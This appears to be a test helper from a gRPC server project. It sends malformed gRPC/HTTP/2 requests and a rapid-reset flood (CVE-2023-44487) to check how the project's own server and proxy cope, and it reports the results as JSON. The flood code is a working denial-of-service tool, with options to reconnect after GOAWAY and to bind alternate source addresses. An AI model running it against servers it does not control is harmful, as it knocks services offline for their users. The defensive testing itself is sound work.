"""Hostile HTTP/2 clients for a gRPC server, written with hyper-h2 over a
plain TCP socket (h2c, prior knowledge), for what a gRPC library refuses to
send: broken gRPC framing, wrong headers, and a rapid-reset flood
(CVE-2023-44487).

    h2_hostile.py --target HOST:PORT [--timeout S] [--server-pid PID] case [--path P] NAME [NAME ...]
    h2_hostile.py --target HOST:PORT [--timeout S] flood [--pairs N] [--with-request]
                  [--batch N] [--pace S] [--source ADDRESS] [--reconnect]

`case` runs each named case, as a call of --path (default GetMACD) on a
connection of its own, and prints one JSON object per line, in the order
given:

    {"case": NAME, "outcome": OUTCOME, "http_status": "200" or null,
     "grpc_status": "13" or null, "grpc_message": TEXT or null,
     "reset_code": N or null, "goaway_code": N or null, "data_bytes": N,
     "frames_after_end": N, "protocol_error": TEXT or null,
     "seconds": S, "sent_bytes": N, "server_rss_growth_kib": N or null}

OUTCOME is "response" (the stream ended with headers or trailers), "stream
reset" (the server sent RST_STREAM), "connection closed" (a GOAWAY, the socket
closed, or a frame that breaks HTTP/2, named in protocol_error, before the
stream ended) or "timeout" (nothing decisive within --timeout seconds: a hang,
which the caller treats as a failure). frames_after_end counts the frames the
server still sent on the stream in the 0.2 s after it ended (it should send
none). server_rss_growth_kib (with --server-pid) is how much the server's
resident memory grew while the case's stream was open.

`flood` opens one connection and sends, as fast as it can, N HEADERS +
RST_STREAM(CANCEL) pairs alternating /idc.Indicator/GetMACD and
/idc.IndicatorGraph/GetMACDGraph (with --with-request, each HEADERS is
followed by the request message with END_STREAM, so that the handler may run
before the reset); then, if the connection is still open, one health check on
it. It prints one JSON object: pairs sent, seconds, whether and after how
many pairs a GOAWAY came (its error code, last stream id and debug text),
whether the connection was closed, the server's SETTINGS, the frames it sent
on the streams already reset (by type), and the health check's result on the
flooded connection (which waits until the server has worked off the flood).

For a proxy in front of the server (tests/proxy_flood.rs): --batch sets how
many pairs go out in one write (1000 by default) and --pace how long to wait
between two writes (none by default), so that a proxy that counts the new
streams of each read sees each batch on its own; with --reconnect, a
connection the server closes (or sends GOAWAY on) is replaced by a new one
until N pairs are sent, and the JSON object sums them up (connections,
GOAWAYs, pairs per connection, the last connection's report); --source binds
the connections to a local address (e.g. 127.0.0.2), so that a proxy that
limits each client address tells the flood from other clients.

Every socket operation has a deadline, so no case can hang the caller.
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.exceptions
    import h2.settings
except ImportError as err:  # a missing peer fails the test, with the fix
    sys.exit(
        "h2_hostile.py needs hyper-h2 (%s): install tests/python/requirements.txt into .venv "
        "(scripts/test.sh does), e.g. .venv/bin/pip install -r tests/python/requirements.txt" % err
    )

GET_MACD = "/idc.Indicator/GetMACD"
GET_MACD_GRAPH = "/idc.IndicatorGraph/GetMACDGraph"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"

# What the huge-prefix streaming case offers to send: far past the server's 64 KiB receive limit,
# past the 4 MiB stream window C-core grants up front, and four times past idc_server's default
# 64 MiB memory quota, so that what the server holds shows whether the quota stops the message or
# the server buffers what its prefix promises.
STREAMED_BYTES = 256 << 20

FRAME_TYPES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 8: "WINDOW_UPDATE"}


def setting_name(code):
    try:
        return h2.settings.SettingCodes(code).name
    except ValueError:  # gRPC's own settings, such as 0xfe03
        return "0x%x" % code


def headers_block(frame):
    """The header block fragment of a raw HEADERS frame (without padding and
    priority)."""
    flags, payload = frame[4], frame[9:]
    pad = 0
    if flags & 0x08:  # PADDED
        pad, payload = payload[0], payload[1:]
    if flags & 0x20:  # PRIORITY
        payload = payload[5:]
    return payload[: len(payload) - pad]


def grpc_frame(message, flag=0, announced=None):
    """A gRPC length-prefixed message: flag byte, 4-byte big-endian length
    (the real one unless `announced` says otherwise), then the message."""
    length = len(message) if announced is None else announced
    return struct.pack(">BI", flag, length) + message


def macd_request(start_date=b"2018-01-02", end_date=b"2018-01-31"):
    """MACDRequest{start_date=1, end_date=2} encoded by hand (both fields are
    length-delimited, wire type 2), so that no generated stub is needed."""
    return b"\x0a" + bytes([len(start_date)]) + start_date + b"\x12" + bytes([len(end_date)]) + end_date


def request_headers(target, path=GET_MACD, method="POST", content_type="application/grpc", te="trailers"):
    headers = [(":method", method), (":scheme", "http"), (":path", path), (":authority", target)]
    if content_type is not None:
        headers.append(("content-type", content_type))
    if te is not None:
        headers.append(("te", te))
    return headers


def rss_kib(pid):
    if pid is None:
        return None
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


class Stream:
    """What one stream received."""

    def __init__(self, stream_id):
        self.stream_id = stream_id
        self.outcome = None
        self.http_status = None
        self.grpc_status = None
        self.grpc_message = None
        self.reset_code = None
        self.goaway_code = None
        self.data_bytes = 0
        self.frames_after_end = 0
        self.protocol_error = None

    def handle(self, conn, event):
        """Records `event`; sets `outcome` when the stream is over."""
        if isinstance(event, h2.events.ConnectionTerminated):
            self.goaway_code = int(event.error_code)
            # A graceful GOAWAY that spares this stream lets it finish.
            if event.error_code != 0 or event.last_stream_id is None or event.last_stream_id < self.stream_id:
                self.outcome = self.outcome or "connection closed"
            return
        if getattr(event, "stream_id", None) != self.stream_id:
            return
        if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
            for name, value in event.headers:
                if name == ":status":
                    self.http_status = value
                elif name == "grpc-status":
                    self.grpc_status = value
                elif name == "grpc-message":
                    self.grpc_message = percent_decode(value)
        elif isinstance(event, h2.events.DataReceived):
            self.data_bytes += len(event.data)
            conn.acknowledge_received_data(event.flow_controlled_length, self.stream_id)
        elif isinstance(event, h2.events.StreamReset):
            self.reset_code = int(event.error_code)
            self.outcome = self.outcome or "stream reset"
        elif isinstance(event, h2.events.StreamEnded):
            self.outcome = self.outcome or "response"

    def as_dict(self):
        return {
            "outcome": self.outcome,
            "http_status": self.http_status,
            "grpc_status": self.grpc_status,
            "grpc_message": self.grpc_message,
            "reset_code": self.reset_code,
            "goaway_code": self.goaway_code,
            "data_bytes": self.data_bytes,
            "frames_after_end": self.frames_after_end,
            "protocol_error": self.protocol_error,
        }


def percent_decode(value):
    """grpc-message is percent-encoded UTF-8 (gRPC's PROTOCOL-HTTP2.md)."""
    raw = value.encode("utf-8")
    out = bytearray()
    i = 0
    while i < len(raw):
        if raw[i] == 0x25 and i + 3 <= len(raw):
            try:
                out.append(int(raw[i + 1 : i + 3], 16))
                i += 3
                continue
            except ValueError:
                pass
        out.append(raw[i])
        i += 1
    return out.decode("utf-8", "replace")


class Client:
    """One h2c connection. What the server sends is split into frames and
    given to h2 one frame at a time: h2 raises on a frame that breaks HTTP/2
    and drops the events of the frames it parsed in the same batch, and C-core
    sends such frames (a trailers-only response repeated on a stream it has
    already ended) right after a first answer that we want to see."""

    FRAME_HEADER = 9

    def __init__(self, target, timeout, source=None):
        host, port = target.rsplit(":", 1)
        bind = None if source is None else (source, 0)
        self.sock = socket.create_connection((host.strip("[]"), int(port)), timeout=timeout, source_address=bind)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # Headers go out as given: the point is to send what a conforming client would not.
        config = h2.config.H2Configuration(
            client_side=True,
            header_encoding="utf-8",
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
        self.conn = h2.connection.H2Connection(config=config)
        self.conn.initiate_connection()
        # A large connection window, so that the server's replies never wait on us.
        self.conn.increment_flow_control_window(16 << 20)
        self.buffer = b""
        self.closed = False
        # Streams up to this id were reset by the flood: their frames are counted, not parsed.
        self.forgotten_streams = 0
        self.late_frames = {}
        self.flush()

    def flush(self):
        """Sends what h2 has queued; False when the socket is closed."""
        pending = self.conn.data_to_send()
        if not pending:
            return True
        try:
            self.sock.sendall(pending)
            return True
        except OSError:
            self.closed = True
            return False

    def next_frame(self, deadline):
        """The next whole frame from the server, or None when the socket
        closed (`closed` is then set) or the deadline passed."""
        while True:
            if len(self.buffer) >= self.FRAME_HEADER:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) >= self.FRAME_HEADER + length:
                    frame = self.buffer[: self.FRAME_HEADER + length]
                    self.buffer = self.buffer[self.FRAME_HEADER + length :]
                    return frame
            if self.closed:
                return None
            left = deadline - time.monotonic()
            if left < 0:
                return None
            readable, _, _ = select.select([self.sock], [], [], left)
            if not readable:
                return None
            try:
                data = self.sock.recv(1 << 20)
            except OSError:
                data = b""
            if not data:
                self.closed = True
            self.buffer += data

    def events(self, deadline):
        """The events of the next frame: a list (maybe empty), or None when
        the connection is closed or the deadline passed. A frame that breaks
        HTTP/2 raises h2's ProtocolError."""
        frame = self.next_frame(deadline)
        if frame is None:
            return None
        stream_id = int.from_bytes(frame[5:9], "big") & 0x7FFFFFFF
        if stream_id and stream_id <= self.forgotten_streams:
            # A frame on a stream we reset long ago, which h2 has forgotten and would call a
            # connection error. Counted by type; a DATA frame's bytes are given back to the
            # connection window.
            kind = FRAME_TYPES.get(frame[3], str(frame[3]))
            self.late_frames[kind] = self.late_frames.get(kind, 0) + 1
            if frame[3] == 1:
                self.conn.decoder.decode(headers_block(frame))
            if frame[3] == 0 and len(frame) > self.FRAME_HEADER:
                self.conn.increment_flow_control_window(len(frame) - self.FRAME_HEADER)
                self.flush()
            return []
        events = self.conn.receive_data(frame)
        self.flush()
        return events

    def read_until_over(self, stream, deadline):
        """Reads until `stream` is over; False when the deadline passed
        first. Then counts, for a moment, the frames the server still sends
        on the stream."""
        while stream.outcome is None:
            try:
                events = self.events(deadline)
            except h2.exceptions.ProtocolError as err:
                stream.outcome = "connection closed"
                stream.protocol_error = "%s: %s" % (type(err).__name__, err)
                break
            if events is None:
                if not self.closed:
                    return False
                stream.outcome = "connection closed"
                break
            for event in events:
                stream.handle(self.conn, event)
        linger = time.monotonic() + 0.2
        while True:
            frame = self.next_frame(linger)
            if frame is None:
                return True
            if int.from_bytes(frame[5:9], "big") & 0x7FFFFFFF == stream.stream_id:
                stream.frames_after_end += 1

    def send_body(self, stream, body, end_stream, deadline):
        """Sends `body` (not empty) on the stream as flow control allows,
        reading the server's frames while the window is shut. Returns the
        bytes sent: fewer than asked when the stream ended first or the
        deadline passed."""
        sent = 0
        while stream.outcome is None:
            try:
                window = min(self.conn.local_flow_control_window(stream.stream_id), self.conn.max_outbound_frame_size)
            except h2.exceptions.StreamClosedError:
                return sent
            if window <= 0:
                try:
                    events = self.events(deadline)
                except h2.exceptions.ProtocolError as err:
                    stream.outcome = "connection closed"
                    stream.protocol_error = "%s: %s" % (type(err).__name__, err)
                    return sent
                if events is None:
                    if self.closed:
                        stream.outcome = "connection closed"
                    return sent
                for event in events:
                    stream.handle(self.conn, event)
                continue
            piece = body[sent : sent + window]
            last = end_stream and sent + len(piece) == len(body)
            try:
                self.conn.send_data(stream.stream_id, piece, end_stream=last)
            except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                return sent
            if not self.flush():
                stream.outcome = "connection closed"
                return sent
            sent += len(piece)
            if sent == len(body):
                return sent
        return sent

    def close(self):
        try:
            self.conn.close_connection()
            self.flush()
        except Exception:  # the server may have closed it already
            pass
        self.sock.close()


def exchange(target, timeout, headers, body=b"", end_stream=True, server_pid=None):
    """One stream on a new connection: `headers`, then `body` (possibly
    empty) with END_STREAM if asked; then reads until the stream is over."""
    started = time.monotonic()
    deadline = started + timeout
    client = Client(target, timeout)
    try:
        rss_before = rss_kib(server_pid)
        stream = Stream(client.conn.get_next_available_stream_id())
        client.conn.send_headers(stream.stream_id, headers, end_stream=end_stream and not body)
        client.flush()
        sent = client.send_body(stream, body, end_stream, deadline) if body else 0
        if not client.read_until_over(stream, deadline):
            stream.outcome = "timeout"
        rss_after = rss_kib(server_pid)
        result = stream.as_dict()
        result["seconds"] = round(time.monotonic() - started, 3)
        result["sent_bytes"] = sent
        result["server_rss_growth_kib"] = None if rss_before is None else rss_after - rss_before
        return result
    finally:
        client.close()


def run_cases(target, timeout, server_pid, path, names):
    # MACDGraphRequest has MACDRequest's fields and numbers: one encoding serves both methods.
    request = macd_request()
    post = request_headers(target, path)

    def call(headers, body, **kwargs):
        return lambda: exchange(target, timeout, headers, body, server_pid=server_pid, **kwargs)

    cases = {
        # The control: a well-formed call, which gets OK.
        "well_formed": call(post, grpc_frame(request)),
        # A gRPC frame whose prefix announces 100 bytes more than the stream carries.
        "truncated": call(post, grpc_frame(request, announced=len(request) + 100)),
        # The stream ends inside the 5-byte prefix.
        "truncated_prefix": call(post, b"\x00\x00\x00"),
        # A prefix announcing 4 GiB - 1 (the most 32 bits can say), then the stream ends.
        "huge_prefix": call(post, grpc_frame(request, announced=0xFFFFFFFF)),
        # The same prefix, then as many of the promised bytes as the server lets through, with
        # the stream left open: the server must refuse the message at its receive limit rather
        # than buffer what the prefix promises.
        "huge_prefix_streaming": call(
            post, grpc_frame(b"\x0a" * (STREAMED_BYTES - 5), announced=0xFFFFFFFF), end_stream=False
        ),
        # The compressed flag set, without a grpc-encoding header (so, identity).
        "compressed_flag_without_encoding": call(post, grpc_frame(request, flag=1)),
        # A flag byte that is neither 0 nor 1.
        "bad_flag_byte": call(post, grpc_frame(request, flag=0x80)),
        "content_type_text_plain": call(request_headers(target, path, content_type="text/plain"), grpc_frame(request)),
        "content_type_missing": call(request_headers(target, path, content_type=None), grpc_frame(request)),
        "get_instead_of_post": call(request_headers(target, path, method="GET"), b""),
        "te_missing": call(request_headers(target, path, te=None), grpc_frame(request)),
        # Two messages on a unary call.
        "two_messages_unary": call(post, grpc_frame(request) + grpc_frame(request)),
        # No message at all on a unary call.
        "no_message_unary": call(post, b""),
    }
    for name in names:
        if name not in cases:
            sys.exit("unknown case %r; the cases are: %s" % (name, ", ".join(cases)))
    for name in names:
        result = {"case": name}
        result.update(cases[name]())
        print(json.dumps(result, ensure_ascii=True), flush=True)


def flood(target, timeout, pairs, with_request, batch=1000, pace=0.0, source=None, reconnect=False):
    """The rapid-reset flood; see the module's docstring. Prints its report."""
    if not reconnect:
        print(json.dumps(flood_connection(target, timeout, pairs, with_request, batch, pace, source)), flush=True)
        return
    started = time.monotonic()
    reports = []
    while sum(r["pairs_sent"] for r in reports) < pairs and time.monotonic() < started + timeout:
        left = pairs - sum(r["pairs_sent"] for r in reports)
        time_left = max(started + timeout - time.monotonic(), 0.1)
        reports.append(flood_connection(target, time_left, left, with_request, batch, pace, source, linger=0.0))
    seconds = round(time.monotonic() - started, 3)
    sent = sum(r["pairs_sent"] for r in reports)
    summary = {
        "pairs_requested": pairs,
        "with_request": with_request,
        "pairs_sent": sent,
        "connections": len(reports),
        "goaways": sum(r["goaway_code"] is not None for r in reports),
        "flood_seconds": seconds,
        "pairs_per_second": round(sent / max(seconds, 1e-6)),
        "pairs_per_connection": [r["pairs_sent"] for r in reports],
        "last_connection": reports[-1] if reports else None,
    }
    print(json.dumps(summary, ensure_ascii=True), flush=True)


def flood_connection(target, timeout, pairs, with_request, batch, pace, source, linger=1.0):
    """The rapid-reset flood on one connection, until it is closed, the
    pairs are sent or `timeout` passes; returns its report. `linger`: how
    long to read the server's last frames once it closed the connection."""
    client = Client(target, timeout, source)
    conn = client.conn
    request_frame = grpc_frame(macd_request())
    headers = [request_headers(target, GET_MACD), request_headers(target, GET_MACD_GRAPH)]
    report = {
        "pairs_requested": pairs,
        "with_request": with_request,
        "pairs_sent": 0,
        "goaway_code": None,
        "goaway_last_stream_id": None,
        "goaway_after_pairs": None,
        "goaway_debug": None,
        "connection_closed": False,
        "closed_after_pairs": None,
        "protocol_error": None,
        "window_waits": 0,
        "server_settings": None,
    }

    def absorb(deadline):
        """Handles what the server has sent, until `deadline` (now: only
        what has already arrived)."""
        while not report["connection_closed"]:
            try:
                events = client.events(deadline)
            except h2.exceptions.ProtocolError as err:
                report["protocol_error"] = report["protocol_error"] or "%s: %s" % (type(err).__name__, err)
                events = []
            if events is None:
                if client.closed:
                    report["connection_closed"] = True
                    report["closed_after_pairs"] = report["pairs_sent"]
                return
            for event in events:
                if isinstance(event, h2.events.ConnectionTerminated) and report["goaway_code"] is None:
                    report["goaway_code"] = int(event.error_code)
                    report["goaway_last_stream_id"] = event.last_stream_id
                    report["goaway_after_pairs"] = report["pairs_sent"]
                    if event.additional_data:
                        report["goaway_debug"] = event.additional_data.decode("utf-8", "replace")
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, h2.events.RemoteSettingsChanged):
                    if report["server_settings"] is None:
                        report["server_settings"] = {
                            setting_name(code): change.new_value for code, change in event.changed_settings.items()
                        }

    # The server's SETTINGS first (its windows and limits), so that h2 knows them.
    settings_by = time.monotonic() + 2.0
    while report["server_settings"] is None and not report["connection_closed"] and time.monotonic() < settings_by:
        absorb(time.monotonic() + 0.05)

    # The flood goes out as pre-encoded frames, at the speed of the socket rather than of h2's
    # per-stream bookkeeping, as an attacker's tool sends it. The header blocks come from h2's own
    # HPACK encoder, so that its state stays right for the health check after the flood: once
    # both header lists are in the encoder's dynamic table, encoding them again gives the same
    # few bytes (indexes only) and changes nothing, so those bytes serve for every stream.
    # The first two streams carry the blocks that fill the table; every later one, an index-only
    # block.
    filling = [conn.encoder.encode(h) for h in headers]
    indexed = [conn.encoder.encode(h) for h in headers]
    assert indexed == [conn.encoder.encode(h) for h in headers], "HPACK blocks are not stable"
    first_stream = conn.get_next_available_stream_id()

    def pair(stream_id):
        sid = struct.pack(">I", stream_id)
        n = (stream_id - first_stream) // 2
        block = (filling if n < 2 else indexed)[n % 2]
        # HEADERS with END_HEADERS, not END_STREAM.
        frames = [struct.pack(">I", len(block))[1:] + b"\x01\x04" + sid + block]
        if with_request:
            # DATA with END_STREAM: the request.
            frames.append(struct.pack(">I", len(request_frame))[1:] + b"\x00\x01" + sid + request_frame)
        # RST_STREAM(CANCEL).
        frames.append(b"\x00\x00\x04\x03\x00" + sid + struct.pack(">I", h2.errors.ErrorCodes.CANCEL))
        return b"".join(frames)

    started = time.monotonic()
    deadline = started + timeout
    stream_id = first_stream
    while report["pairs_sent"] < pairs and not report["connection_closed"] and report["goaway_code"] is None:
        if time.monotonic() > deadline:
            break
        count = min(batch, pairs - report["pairs_sent"])
        data_bytes = count * len(request_frame) if with_request else 0
        # Requests count against the connection's flow-control window (each stream's own window
        # is C-core's 4 MiB): wait for WINDOW_UPDATEs when it runs short.
        if conn.outbound_flow_control_window < data_bytes:
            report["window_waits"] += 1
            absorb(min(deadline, time.monotonic() + 0.1))
            continue
        chunk = b"".join(pair(stream_id + 2 * i) for i in range(count))
        try:
            client.sock.sendall(chunk)
        except OSError:
            report["connection_closed"] = True
            report["closed_after_pairs"] = report["pairs_sent"]
            break
        conn.outbound_flow_control_window -= data_bytes
        stream_id += 2 * count
        report["pairs_sent"] += count
        # Frames on these streams are the server's answers to calls already reset: counted, and
        # their header blocks decoded to keep HPACK in step, but not given to h2, which never
        # saw the streams open.
        client.forgotten_streams = stream_id - 2
        # With --pace, the next write waits (reading what the server sends meanwhile), so that
        # a server reading as fast as it can gets each batch in a read of its own.
        absorb(time.monotonic() + pace)
    # h2 opens the next stream (the health check) above the flood's.
    conn.highest_outbound_stream_id = stream_id - 2
    report["flood_seconds"] = round(time.monotonic() - started, 3)
    report["pairs_per_second"] = round(report["pairs_sent"] / max(report["flood_seconds"], 1e-6))

    # Then a health check on the flooded connection, if it is still open.
    report["same_connection_health"] = None
    if not report["connection_closed"] and report["goaway_code"] is None:
        check_started = time.monotonic()
        try:
            stream = Stream(conn.get_next_available_stream_id())
            conn.send_headers(stream.stream_id, request_headers(target, HEALTH_CHECK), end_stream=False)
            conn.send_data(stream.stream_id, grpc_frame(b""), end_stream=True)
            client.flush()
            if not client.read_until_over(stream, time.monotonic() + timeout):
                stream.outcome = "timeout"
            health = stream.as_dict()
        except (OSError, h2.exceptions.ProtocolError) as err:
            health = {"outcome": "connection closed", "protocol_error": str(err)}
        health["seconds"] = round(time.monotonic() - check_started, 3)
        report["same_connection_health"] = health
    else:
        # The server's last frames (a GOAWAY before its close), briefly.
        absorb(time.monotonic() + linger)
    report["frames_on_reset_streams"] = client.late_frames
    client.close()
    return report


def main(argv=None):
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--target", required=True, help="HOST:PORT of a plaintext gRPC server")
    parser.add_argument("--timeout", type=float, default=5.0, help="seconds any one case or the flood may take")
    parser.add_argument("--server-pid", type=int, help="the server's pid, to report its memory growth")
    sub = parser.add_subparsers(dest="command", required=True)
    case = sub.add_parser("case")
    case.add_argument("--path", default=GET_MACD, help="the method to call (default %(default)s)")
    case.add_argument("names", nargs="+")
    flood_cmd = sub.add_parser("flood")
    flood_cmd.add_argument("--pairs", type=int, default=20000)
    flood_cmd.add_argument("--with-request", action="store_true")
    flood_cmd.add_argument("--batch", type=int, default=1000, help="pairs per write (default %(default)s)")
    flood_cmd.add_argument(
        "--pace", type=float, default=0.0, help="seconds between two writes (default %(default)s: none)"
    )
    flood_cmd.add_argument("--source", help="the local address to connect from (default: any)")
    flood_cmd.add_argument(
        "--reconnect", action="store_true", help="open a new connection whenever the server closes one"
    )
    args = parser.parse_args(argv)
    if args.command == "case":
        run_cases(args.target, args.timeout, args.server_pid, args.path, args.names)
    else:
        flood(
            args.target,
            args.timeout,
            args.pairs,
            args.with_request,
            args.batch,
            args.pace,
            args.source,
            args.reconnect,
        )
    return 0


if __name__ == "__main__":
    sys.exit(main())
